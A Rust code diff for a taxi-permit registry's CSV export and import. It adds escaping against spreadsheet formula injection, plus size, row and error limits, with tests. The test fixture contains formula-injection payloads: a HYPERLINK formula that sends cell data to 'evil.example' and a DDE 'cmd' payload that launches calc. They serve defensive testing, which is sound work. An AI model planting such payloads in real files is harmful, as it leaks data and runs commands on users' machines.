@@ -33,6 +33,21 @@ use sync_core::rules::office;
 
 use super::{Ctx, EditError};
 
+/// Largest CSV an import reads (bytes). An export row is under 1 KB, so this holds
+/// [`MAX_IMPORT_ROWS`] rows with room to spare; checked before parsing so the CLI, the API and
+/// the office page share it (the API's body limit is larger and configurable).
+pub const MAX_IMPORT_BYTES: usize = 8 * 1024 * 1024;
+
+/// Most permit rows in one file. Americana's art. 14 cap is one taxi per 1,000 inhabitants
+/// (≈ 240 permits); 5,000 leaves a 20× margin for a larger city or a generous configuration,
+/// and bounds what a bad file costs: each bad row can hold ~50 problems.
+pub const MAX_IMPORT_ROWS: usize = 5_000;
+
+/// Most problems reported for one file; past it reading stops and one last line says so. The
+/// office fixes a file a few problems at a time, and a file of garbage must not turn into a
+/// report a hundred times its size (an 80-byte line of commas gives ~50 problems).
+pub const MAX_IMPORT_ERRORS: usize = 1_000;
+
 /// One problem of an import. `line` is the file's line (the header is line 1); `None` for a
 /// problem of the file as a whole.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
@@ -108,6 +123,53 @@ pub static COLUMNS: std::sync::LazyLock<Vec<String>> = std::sync::LazyLock::new(
     }
     cols
 });
+
+// ---------------------------------------------------------------------------------------------
+// Formula injection
+// ---------------------------------------------------------------------------------------------
+
+/// First characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection":
+/// `=`, `+`, `-`, `@`, TAB, CR). A name `=HYPERLINK(…)` typed into the registry would otherwise
+/// run on the office's machine when the export is opened.
+pub const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];
+
+/// The escape: a leading apostrophe, which spreadsheets read as "this cell is text" and hide.
+const ESCAPE: char = '\'';
+
+/// Columns holding numbers the server writes from typed values (`-22.7394`, `2026`): never
+/// escaped, since a number cannot carry a formula and `'-22.7394` would be text a spreadsheet
+/// no longer adds or sorts. Every other column is text (names, addresses, ids, dates, CPFs,
+/// enumerations) and is escaped when it starts with a trigger; for dates, CPFs and enumerations
+/// that never happens, so only free text (names, addresses, makes, colours, observations,
+/// certificates) is ever changed. There is no phone column: a `+55 …` in an address is text
+/// and is escaped like any other.
+pub const NUMBER_COLUMNS: &[&str] = &[
+    "permit_renewal_year",
+    "stand_vacancies",
+    "stand_latitude",
+    "stand_longitude",
+    "vehicle_year",
+    "vehicle_doors",
+    "vehicle_capacity",
+    "taximeter_valid_until_year",
+];
+
+/// A text cell as written: prefixed with [`ESCAPE`] when it starts with a trigger or with the
+/// escape itself (so that [`unescape_cell`] undoes exactly this, and `'=x` typed by someone
+/// comes back as `'=x`).
+fn escape_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_TRIGGERS) || cell.starts_with(ESCAPE) {
+        std::borrow::Cow::Owned(format!("{ESCAPE}{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A cell as read: one leading [`ESCAPE`] removed (the inverse of [`escape_cell`]; a
+/// spreadsheet that kept the apostrophe, or a person who typed one, gets the same treatment).
+fn unescape_cell(cell: &str) -> &str {
+    cell.strip_prefix(ESCAPE).unwrap_or(cell)
+}
 
 // ---------------------------------------------------------------------------------------------
 // Export
@@ -270,7 +332,16 @@ pub fn export(reg: &Registry) -> Result<Vec<u8>, EditError> {
                 }
             }
         }
-        w.write_record(&row).map_err(fail)?;
+        // The one place cells are written: text escaped against formula injection.
+        let cells = COLUMNS.iter().zip(&row).map(|(col, cell)| {
+            if NUMBER_COLUMNS.contains(&col.as_str()) {
+                std::borrow::Cow::Borrowed(cell.as_str())
+            } else {
+                escape_cell(cell)
+            }
+        });
+        w.write_record(cells.map(|c| c.into_owned()))
+            .map_err(fail)?;
     }
     w.into_inner().map_err(|e| EditError::Invalid {
         code: "csv_export",
@@ -326,7 +397,9 @@ impl Cells<'_> {
         self.index
             .get(col)
             .and_then(|i| self.record.get(*i))
-            .map(str::trim)
+            // Trimmed, the export's formula escape undone (see `escape_cell`), trimmed again so
+            // that `' x` is `x` as `x` is: values never keep surrounding spaces.
+            .map(|c| unescape_cell(c.trim()).trim())
             .unwrap_or("")
     }
 
@@ -748,6 +821,9 @@ fn read_rows(data: &[u8]) -> Result<(Vec<RowIn>, Vec<RowError>), Vec<RowError>> 
     let mut index: HashMap<String, usize> = HashMap::new();
     let mut errors = Vec::new();
     for (i, name) in headers.iter().enumerate() {
+        if errors.len() > MAX_IMPORT_ERRORS {
+            break;
+        }
         let name = name.trim().to_lowercase();
         if !COLUMNS.contains(&name) {
             errors.push(at(1, Some(&name), "coluna desconhecida"));
@@ -771,7 +847,12 @@ fn read_rows(data: &[u8]) -> Result<(Vec<RowIn>, Vec<RowError>), Vec<RowError>> 
         return Err(errors);
     }
     let mut rows = Vec::new();
+    let mut read = 0usize;
     for result in reader.records() {
+        if errors.len() >= MAX_IMPORT_ERRORS {
+            // The report says how many were left out; reading on would only cost memory.
+            break;
+        }
         let record = match result {
             Ok(r) => r,
             Err(e) => {
@@ -783,6 +864,13 @@ fn read_rows(data: &[u8]) -> Result<(Vec<RowIn>, Vec<RowError>), Vec<RowError>> 
         let line = record.position().map_or(0, |p| p.line());
         if record.iter().all(|f| f.trim().is_empty()) {
             continue;
+        }
+        read += 1;
+        if read > MAX_IMPORT_ROWS {
+            errors.push(whole(format!(
+                "o arquivo tem mais de {MAX_IMPORT_ROWS} alvarás, o máximo de uma importação"
+            )));
+            break;
         }
         if record.len() != headers.len() {
             errors.push(at(
@@ -814,6 +902,24 @@ fn read_rows(data: &[u8]) -> Result<(Vec<RowIn>, Vec<RowError>), Vec<RowError>> 
     Ok((rows, errors))
 }
 
+/// The errors as the import reports them: sorted by line, at most [`MAX_IMPORT_ERRORS`] (the
+/// last line then says how many were left out).
+fn report(errors: Vec<RowError>) -> EditError {
+    // Problems of the file as a whole are few and always kept, after the lines.
+    let (file, mut lines): (Vec<RowError>, Vec<RowError>) =
+        errors.into_iter().partition(|e| e.line.is_none());
+    lines.sort_by_key(|e| (e.line, e.column.clone()));
+    if lines.len() > MAX_IMPORT_ERRORS {
+        let left = lines.len() - MAX_IMPORT_ERRORS;
+        lines.truncate(MAX_IMPORT_ERRORS);
+        lines.push(whole(format!(
+            "mais {left} problema(s) não listado(s): corrija os de cima e importe de novo"
+        )));
+    }
+    lines.extend(file);
+    EditError::Csv(lines)
+}
+
 /// Next free numeric id with `prefix` (`P0001`, `V0001`) above every id in use.
 fn id_allocator<'a>(
     prefix: &'static str,
@@ -834,7 +940,14 @@ fn id_allocator<'a>(
 pub fn import(current: &Registry, data: &[u8], ctx: &Ctx<'_>) -> Result<Registry, EditError> {
     // Rows that could be read are still checked against each other, so one pass reports
     // every problem; checks of the file as a whole wait until every row is good.
-    let (rows, mut errors) = read_rows(data).map_err(EditError::Csv)?;
+    if data.len() > MAX_IMPORT_BYTES {
+        return Err(EditError::Csv(vec![whole(format!(
+            "o arquivo tem {} bytes, acima do limite de {MAX_IMPORT_BYTES} bytes ({MAX_IMPORT_ROWS} \
+             alvarás no máximo)",
+            data.len()
+        ))]));
+    }
+    let (rows, mut errors) = read_rows(data).map_err(report)?;
     let rows_ok = errors.is_empty();
 
     // People by CPF: the first row that names one defines it; later rows must agree.
@@ -1046,8 +1159,7 @@ pub fn import(current: &Registry, data: &[u8], ctx: &Ctx<'_>) -> Result<Registry
     }
 
     if !rows_ok || !errors.is_empty() {
-        errors.sort_by_key(|e| (e.line.unwrap_or(u64::MAX), e.column.clone()));
-        return Err(EditError::Csv(errors));
+        return Err(report(errors));
     }
 
     // History the file does not carry must still point at a permit.
@@ -1103,8 +1215,7 @@ pub fn import(current: &Registry, data: &[u8], ctx: &Ctx<'_>) -> Result<Registry
     if errors.is_empty() {
         Ok(next)
     } else {
-        errors.sort_by_key(|e| (e.line.unwrap_or(u64::MAX), e.column.clone()));
-        Err(EditError::Csv(errors))
+        Err(report(errors))
     }
 }
 
@@ -1136,6 +1247,117 @@ mod tests {
         let text = export(&reg).unwrap();
         let back = sync_core::feed::sorted(import(&reg, &text, &ctx(&rules)).unwrap());
         assert_eq!(back, reg);
+    }
+
+    /// Free text that a spreadsheet would run as a formula (OWASP's triggers: `=`, `+`, `-`,
+    /// `@`, TAB, CR), and a leading quote, which the escape itself uses.
+    fn hostile_registry() -> Registry {
+        let mut reg = sync_core::feed::sorted(sample_registry());
+        reg.people[0].name = String::from("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+        reg.people[1].name = String::from("@SUM(1+1)*cmd|' /C calc'!A0");
+        reg.people[2].name = String::from("'=já escapado");
+        reg.people[3].licence.observations = vec![String::from("-2+3"), String::from("EAR")];
+        reg.stands[0].name = String::from("+55 19 3475-9000");
+        reg.stands[0].address = String::from("=1+1, Centro");
+        reg.stands[0].latitude = Some(-22.7394);
+        reg.stands[0].longitude = Some(-47.3314);
+        reg.vehicles[0].make_model = String::from("-1+1");
+        reg.vehicles[0].colour = String::from("@BRANCO");
+        reg
+    }
+
+    #[test]
+    fn export_then_import_round_trips_formula_like_text() {
+        let rules = RulesConfig::default();
+        let reg = hostile_registry();
+        let text = export(&reg).unwrap();
+        let back = sync_core::feed::sorted(import(&reg, &text, &ctx(&rules)).unwrap());
+        assert_eq!(back, reg);
+    }
+
+    #[test]
+    fn no_exported_text_cell_starts_a_formula() {
+        let mut reg = hostile_registry();
+        // TAB and CR too (import trims them, like any surrounding space).
+        reg.people[4].name = String::from("\t=1+1");
+        reg.vehicles[1].colour = String::from("\r=1+1");
+        let text = export(&reg).unwrap();
+        let mut r = csv::Reader::from_reader(&text[..]);
+        let headers = r.headers().unwrap().clone();
+        let mut escaped = 0;
+        for rec in r.records() {
+            let rec = rec.unwrap();
+            for (col, cell) in headers.iter().zip(rec.iter()) {
+                if NUMBER_COLUMNS.contains(&col) {
+                    // Numbers stay numbers: a spreadsheet must still add and sort them.
+                    assert!(!cell.starts_with('\''), "{col}: {cell:?}");
+                    continue;
+                }
+                assert!(
+                    !cell.starts_with(FORMULA_TRIGGERS),
+                    "{col} starts a formula: {cell:?}"
+                );
+                escaped += usize::from(cell.starts_with('\''));
+            }
+        }
+        // Every hostile cell above, on each row that repeats it.
+        assert!(escaped >= 10, "{escaped}");
+        let text = String::from_utf8(text).unwrap();
+        assert!(text.contains(",-22.7394,-47.3314,"), "{text}");
+    }
+
+    #[test]
+    fn a_file_at_the_byte_limit_is_read_and_one_byte_more_is_refused() {
+        let rules = RulesConfig::default();
+        let reg = sync_core::feed::sorted(sample_registry());
+        let mut text = export(&reg).unwrap();
+        // Blank lines are skipped: padding changes the size, not the rows.
+        text.resize(MAX_IMPORT_BYTES, b'\n');
+        let back = sync_core::feed::sorted(import(&reg, &text, &ctx(&rules)).unwrap());
+        assert_eq!(back, reg);
+        text.push(b'\n');
+        let e = errors(import(&reg, &text, &ctx(&rules)).unwrap_err());
+        assert_eq!(e.len(), 1, "{e:#?}");
+        assert!(e[0].message.contains("acima do limite"), "{e:#?}");
+    }
+
+    #[test]
+    fn rows_past_the_limit_are_refused_and_the_report_is_bounded() {
+        let rules = RulesConfig::default();
+        let reg = sample_registry();
+        let text = String::from_utf8(export(&reg).unwrap()).unwrap();
+        let mut lines = text.lines();
+        let header = lines.next().unwrap();
+        let row = lines.next().unwrap();
+        let file = |n: usize| {
+            let mut f = String::from(header);
+            for _ in 0..n {
+                f.push('\n');
+                f.push_str(row);
+            }
+            f.into_bytes()
+        };
+        let too_many = |e: &[RowError]| e.iter().any(|r| r.message.contains("mais de"));
+        // The same good row over and over: every row reads, the repeats are reported.
+        let e = errors(import(&reg, &file(MAX_IMPORT_ROWS), &ctx(&rules)).unwrap_err());
+        assert!(!too_many(&e), "{:#?}", &e[e.len() - 2..]);
+        assert_eq!(e.len(), MAX_IMPORT_ERRORS + 1);
+        assert!(
+            e[MAX_IMPORT_ERRORS].message.contains("não listado"),
+            "{:?}",
+            e.last()
+        );
+        let e = errors(import(&reg, &file(MAX_IMPORT_ROWS + 1), &ctx(&rules)).unwrap_err());
+        assert!(too_many(&e), "{:#?}", &e[e.len() - 2..]);
+        assert_eq!(e.len(), MAX_IMPORT_ERRORS + 2);
+
+        // A file of empty cells but one: ~50 problems a line, reading stops at the cap.
+        let blank = format!(
+            "{header}\n{}",
+            format!("x{}\n", ",".repeat(COLUMNS.len() - 1)).repeat(10_000)
+        );
+        let e = errors(import(&reg, blank.as_bytes(), &ctx(&rules)).unwrap_err());
+        assert!(e.len() <= MAX_IMPORT_ERRORS + 1, "{}", e.len());
     }
 
     #[test]
